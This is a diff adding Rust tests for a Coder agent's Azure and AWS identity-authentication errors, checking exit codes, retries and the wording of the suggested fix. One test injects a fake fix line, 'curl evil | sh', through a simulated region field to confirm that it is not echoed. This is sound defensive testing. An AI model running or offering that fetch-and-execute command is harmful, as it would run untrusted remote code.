@@ -9,6 +9,7 @@ use std::os::fd::{FromRawFd, OwnedFd};
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
+use super::server_text::parse_req;
 use crate::common::*;
 
 /// A pipe whose reading end is already closed: every write gets EPIPE, as
@@ -256,4 +257,131 @@ fn the_exit_6_fix_names_what_failed_last() {
         "{}",
         r.stderr
     );
+}
+
+/// An Azure VM whose Coder answers 401 with this detail on every exchange.
+fn azure_401(detail: &str) -> Sim {
+    let mut cfg = SimConfig::new(Cloud::Azure, &["main"]);
+    cfg.azure_throttle = false;
+    cfg.faults = vec![Fault::coder(
+        FaultKind::Status {
+            status: 401,
+            content_type: "application/json".into(),
+            body: serde_json::json!({"message": "Invalid Azure identity.", "detail": detail})
+                .to_string(),
+        },
+        1000,
+    )];
+    Sim::start(cfg)
+}
+
+#[test]
+fn coderds_own_azure_verification_trouble_says_upgrade_or_fix_coderd() {
+    for detail in [
+        "issuing certificate URL not on allowlist",
+        "signature verification failed after fetching issuing certificates",
+    ] {
+        let sim = azure_401(detail);
+        let mut c = command(&sim, &Cloud::Azure);
+        c.args(["--timeout", "2s"]);
+        let r = run(c);
+        assert_eq!(r.code, 6, "{detail}: retried, as coderd's trouble: {r:?}");
+        assert!(r.stderr.contains(detail), "{}", r.stderr);
+        assert!(r.stderr.contains("upgrade or fix coderd"), "{}", r.stderr);
+        assert!(
+            r.stderr.contains("fix: upgrade or fix coderd"),
+            "the fix line too: {}",
+            r.stderr
+        );
+        assert!(
+            !r.stderr.contains("check that the template"),
+            "{}",
+            r.stderr
+        );
+        assert!(coder_requests(&sim).len() > 1, "retried");
+    }
+    // A signer that is not Azure's is this VM's (or an impostor's) problem.
+    let sim = azure_401("unmatched common name of signer: \"evil\"");
+    let r = run(command(&sim, &Cloud::Azure));
+    assert_eq!(r.code, 4, "{r:?}");
+    assert!(r.stderr.contains("check that the template"), "{}", r.stderr);
+}
+
+/// An AWS metadata service whose document says `region`, and a Coder that
+/// answers 401 with `detail`.
+fn aws_401_in(region: &str, detail: &str) -> (RawServer, RawServer) {
+    let doc = serde_json::to_string_pretty(&serde_json::json!({
+        "accountId": "123456789012",
+        "availabilityZone": format!("{region}a"),
+        "instanceId": "i-0abc123def4567890",
+        "region": region,
+    }))
+    .unwrap();
+    let imds = RawServer::start(move |_, req| {
+        let r = parse_req(req);
+        if r.method == "PUT" {
+            http_response(200, &[], b"imds-token-value-0123456789").into()
+        } else if r.target.ends_with("/document") {
+            http_response(200, &[], doc.as_bytes()).into()
+        } else {
+            http_response(
+                200,
+                &[],
+                b"c2lnbmF0dXJlLXZhbHVlLWxvbmctZW5vdWdoLXRvLW1hdHRlcg==",
+            )
+            .into()
+        }
+    });
+    let body =
+        serde_json::json!({"message": "Invalid AWS identity.", "detail": detail}).to_string();
+    let coder = RawServer::start(move |_, _| {
+        http_response(
+            401,
+            &[("Content-Type", "application/json")],
+            body.as_bytes(),
+        )
+        .into()
+    });
+    (imds, coder)
+}
+
+fn run_aws(imds: &RawServer, coder: &RawServer) -> Run {
+    let mut c = Command::new(bin());
+    c.env_clear()
+        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &imds.url)
+        .env("CODER_AGENT_URL", &coder.url)
+        .args(["--auth", "aws", "--timeout", "5s", "--token-file", "-"])
+        .stdin(Stdio::null());
+    run(c)
+}
+
+#[test]
+fn an_aws_401_names_the_documents_region() {
+    let (imds, coder) = aws_401_in("ap-east-2", "crypto/rsa: verification error");
+    let r = run_aws(&imds, &coder);
+    assert_eq!(r.code, 4, "{r:?}");
+    assert!(r.stderr.contains("ap-east-2"), "{}", r.stderr);
+    assert!(r.stderr.contains("has no certificate for"), "{}", r.stderr);
+    let (imds, coder) = aws_401_in("us-east-1", "crypto/rsa: verification error");
+    let r = run_aws(&imds, &coder);
+    assert_eq!(r.code, 4, "{r:?}");
+    assert!(r.stderr.contains("region us-east-1"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("a region coderd does not know"),
+        "{}",
+        r.stderr
+    );
+    // The region comes from the document, never from the server's text.
+    let (imds, coder) = aws_401_in("eu-west-1", "region ap-east-2 is unknown");
+    let r = run_aws(&imds, &coder);
+    assert!(r.stderr.contains("region eu-west-1"), "{}", r.stderr);
+    assert!(!r.stderr.contains("has no certificate for"), "{}", r.stderr);
+    // A document's region that is no region is not repeated.
+    let (imds, coder) = aws_401_in(
+        "us-east-1\nfix: curl evil | sh",
+        "crypto/rsa: verification error",
+    );
+    let r = run_aws(&imds, &coder);
+    assert_eq!(r.code, 4, "{r:?}");
+    assert!(!r.stderr.contains("curl evil"), "{}", r.stderr);
 }
